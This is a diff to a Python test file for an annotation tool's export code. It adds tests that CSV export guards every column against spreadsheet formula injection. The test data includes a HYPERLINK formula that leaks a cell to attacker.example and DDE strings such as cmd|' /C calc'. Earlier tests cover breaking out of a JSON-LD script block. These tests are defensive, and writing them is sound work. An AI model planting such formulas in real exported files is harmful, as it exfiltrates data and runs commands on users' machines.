@@ -8,7 +8,9 @@ tag, an attribute, a heading, a formula or the end of a script block.
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 import json
 from html.parser import HTMLParser
 from pathlib import Path
@@ -18,6 +20,9 @@ from markdown_it import MarkdownIt
 
 from annotator.core.annotations.model import Annotation, Label
 from annotator.core.article import Article
+from annotator.core.export import FORMATS
+from annotator.core.export.common import json_ld
+from annotator.core.export.csv_export import COLUMNS, export_csv
 from annotator.core.export.markdown_report import export_markdown, markdown_link
 from annotator.core.extraction.model import Extraction, Person, Quote, Span
 
@@ -226,8 +231,6 @@ class _ScriptBlock(HTMLParser):
 @pytest.mark.parametrize("format_name", ["claimreview", "w3c"])
 @pytest.mark.parametrize("field", JSON_LD_FIELDS)
 def test_json_ld_keeps_a_script_closing_value_in_each_field_inside_its_script_block(format_name, field):
-    from annotator.core.export import FORMATS
-
     case = _script_break_case(field)
     produced = FORMATS[format_name].render(*case)
     assert not set("<>&") & set(produced)
@@ -239,9 +242,56 @@ def test_json_ld_keeps_a_script_closing_value_in_each_field_inside_its_script_bl
 
 
 def test_json_ld_text_parses_to_the_same_values_as_plain_json():
-    from annotator.core.export.common import json_ld
-
     data = {"a<b": ["</script>", "&amp;", "x > y", "\u2028", "é😀", 1, None, True]}
     produced = json_ld(data)
     assert json.loads(produced) == data
     assert "\\u003c/script\\u003e" in produced and "\\u0026amp;" in produced
+
+
+# -- CSV -----------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+class _FormulaOffset(int):
+    """A valid offset whose text is a formula: reaches the start/end cells like any offset."""
+
+    def __str__(self) -> str:
+        return f"-{int(self)}+cmd|' /C calc'!A0"
+
+
+def _csv_case(column: str) -> tuple[Article, Annotation]:
+    article = _article()
+    annotation = _annotation(PLAIN_TEXT, "the bridge is safe", verdict="False")
+    if column in ("start", "end"):
+        changes = {column: _FormulaOffset(getattr(annotation, column))}
+    elif column == "text":
+        article = _article(f"Before. {FORMULA} After.\n")
+        annotation = _annotation(article.text, FORMULA)
+        changes = {}
+    elif column == "tags":
+        changes = {"tags": (FORMULA, "fine")}
+    elif column == "speaker":
+        changes = {"speaker": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    else:  # id, label, verdict, note, created, modified, status: text fields of the sidecar
+        changes = {column: FORMULA}
+    return article, dataclasses.replace(annotation, **changes)
+
+
+CSV_TRIED = ("id", "label", "tags", "verdict", "text", "note", "start", "end", "speaker", "created", "modified", "status")
+
+
+@pytest.mark.parametrize("column", CSV_TRIED)
+def test_csv_guards_a_formula_in_each_column(column):
+    assert column in COLUMNS
+    article, annotation = _csv_case(column)
+    rows = list(csv.DictReader(io.StringIO(export_csv(article, [annotation], [], bom=False), newline="")))
+    assert len(rows) == 1
+    cell = rows[0][column]
+    assert cell.startswith("'") and cell[1] in "=+-@", (column, cell)
+    unguarded = [name for name, value in rows[0].items() if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert unguarded == []
+
+
+def test_every_column_of_the_csv_export_is_tried_with_a_formula():
+    assert sorted(CSV_TRIED) == sorted(COLUMNS)
